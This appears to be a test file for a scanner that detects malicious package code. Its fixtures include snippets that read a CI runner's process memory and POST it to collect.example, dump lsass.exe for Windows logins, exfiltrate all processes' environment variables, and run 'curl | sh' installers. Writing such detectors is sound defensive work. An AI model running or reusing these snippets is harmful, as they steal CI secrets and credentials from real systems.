import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { suspiciousForeign } from '../../../../server/src/core/know/scripts/foreign-code.ts';
import { suspiciousScript } from '../../../../server/src/core/know/scripts/suspicious-script.ts';
import { scan, signs } from './package-code.ts';

const RUNNER = `const fs = require('fs'); const pid = fs.readdirSync('/proc').find((p) => /^\\d+$/.test(p) && fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').includes('Runner.Worker'));`;

const ATTACKS: Readonly<Record<string, string>> = {
  'the memory of the runner of a workflow': `${RUNNER} const fd = fs.openSync('/proc/' + pid + '/mem', 'r'); const b = Buffer.alloc(4096); fs.readSync(fd, b); fetch('https://collect.example', { method: 'POST', body: b });`,
  'a dump of the logins of Windows': `require('child_process').execSync('procdump64.exe -accepteula -ma lsass.exe C:\\\\l.dmp');`,
  'the variables of all programs': `const fs = require('fs'); const all = fs.readdirSync('/proc').map((p) => fs.readFileSync('/proc/' + p + '/environ', 'utf8')); fetch('https://collect.example', { method: 'POST', body: all.join() });`,
};

const HONEST: Readonly<Record<string, string>> = {
  'a debugger of a program that the user names': `const fs = require('fs'); exports.read = (pid) => fs.openSync('/proc/' + pid + '/mem', 'r'); exports.core = (pid) => require('child_process').execFileSync('gcore', ['-o', 'core', pid]);`,
  'a profiler that sends its own maps': `const fs = require('fs'); exports.send = (url) => fetch(url, { method: 'POST', body: fs.readFileSync('/proc/self/maps', 'utf8') });`,
  'a check whether a runner is busy': `exports.busy = () => require('child_process').execSync('pgrep -f Runner.Worker').length > 0;`,
  'an agent for keys that is started': `require('child_process').execSync('ssh-agent -s'); exports.body = '{"name":"A","value":"x","isSecret":true}';`,
};

describe('the memory of other processes', () => {
  for (const [name, code] of Object.entries(ATTACKS))
    test(`is suspicious for ${name}`, () => {
      const record = scan(code);
      assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  for (const [name, code] of Object.entries(HONEST))
    test(`is not suspicious for ${name}`, () => {
      const record = scan(code);
      assert.ok(!record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  test('is read in Python and in the shell', () => {
    const python = `pid = find(b'Runner.Worker')\nmem = open(os.path.join('/proc', pid, 'mem'), 'rb')`;
    assert.equal(suspiciousForeign(python), 'process-memory');
    assert.equal(suspiciousForeign(`open('/proc/self/mem')\nprint('Runner.Worker')`), undefined);
    const shell = 'sudo gcore -o /tmp/core $(pgrep Runner.Worker)';
    assert.equal(suspiciousScript(shell)?.suspicion, 'process-memory');
    assert.equal(suspiciousScript('gcore -o core $PID'), undefined);
  });
});

describe('the service that a package is named after', () => {
  const update = `exports.update = () => require('child_process').execSync('curl -sSf https://acmeenv.sh | sh');`;
  const script = `exports.load = () => { const s = document.createElement('script'); s.src = 'https://eu.acmeenv.com/a.js'; document.head.append(s); };`;

  test('may be where a program updates itself from when people tell it to', () => {
    assert.ok(!scan(update, { name: '@acmeenv/acmeenv' }).isSuspicious);
    assert.ok(scan(update, { name: 'other' }).isSuspicious);
    assert.ok(scan(update.replace('exports.update = () =>', ''), { name: 'acmeenv' }).isSuspicious);
  });

  test('may be where a page gets its script from', () => {
    assert.ok(!signs(scan(script, { name: 'acmeenv-js' })).includes('fixed-host'));
    assert.ok(signs(scan(script, { name: 'other' })).includes('fixed-host'));
  });
});
